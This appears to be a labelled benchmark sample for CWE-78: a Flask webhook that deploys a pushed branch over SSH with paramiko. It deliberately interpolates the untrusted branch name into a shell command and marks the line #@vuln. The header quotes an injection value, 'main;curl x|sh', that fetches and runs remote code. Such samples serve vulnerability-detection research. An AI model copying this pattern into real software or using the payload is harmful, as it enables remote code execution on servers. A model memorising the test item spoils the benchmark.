# ---
# id: cwe78-r2-release-deployer-v
# cwe: CWE-78
# vulnerable: true
# twin: cwe78-r2-release-deployer-f
# tags: paramiko, flask
# explanation: A deploy hook receives a JSON push event and deploys the pushed branch to each app server over SSH with paramiko. The branch name from the webhook body is put into the remote shell command with an f-string, and exec_command runs it through the remote user's shell, so a branch like main;curl x|sh runs arbitrary commands on every server.
# ---
import hmac
import logging
import os

import paramiko
from flask import Blueprint, abort, jsonify, request

bp = Blueprint("deploy", __name__)
log = logging.getLogger("deploy")

APP_SERVERS = ["app1.internal", "app2.internal"]
APP_DIR = "/srv/shop"
HOOK_SECRET = os.environ.get("DEPLOY_HOOK_SECRET", "").encode()


def signature_ok(body: bytes, header: str) -> bool:
    expected = "sha256=" + hmac.new(HOOK_SECRET, body, "sha256").hexdigest()
    return bool(header) and hmac.compare_digest(expected, header)


def run_remote(host: str, command: str) -> tuple:
    client = paramiko.SSHClient()
    client.load_system_host_keys()
    client.set_missing_host_key_policy(paramiko.RejectPolicy())
    client.connect(host, username="deploy", key_filename="/etc/deploy/id_ed25519", timeout=15)
    try:
        _, stdout, stderr = client.exec_command(command, timeout=300)
        status = stdout.channel.recv_exit_status()
        return status, stdout.read().decode(errors="replace"), stderr.read().decode(errors="replace")
    finally:
        client.close()


@bp.route("/hooks/push", methods=["POST"])
def on_push():
    if not signature_ok(request.get_data(), request.headers.get("X-Hub-Signature-256", "")):
        abort(403)
    event = request.get_json(force=True)
    branch = event.get("ref", "").removeprefix("refs/heads/")
    if not branch:
        return jsonify(skipped=True), 202
    results = {}
    for host in APP_SERVERS:
        cmd = f"cd {APP_DIR} && git fetch origin && git checkout {branch} && ./bin/restart"  #@vuln
        status, out, err = run_remote(host, cmd)
        log.info("deploy %s on %s -> %s", branch, host, status)
        results[host] = {"status": status, "tail": (out + err)[-2000:]}
    return jsonify(branch=branch, results=results)
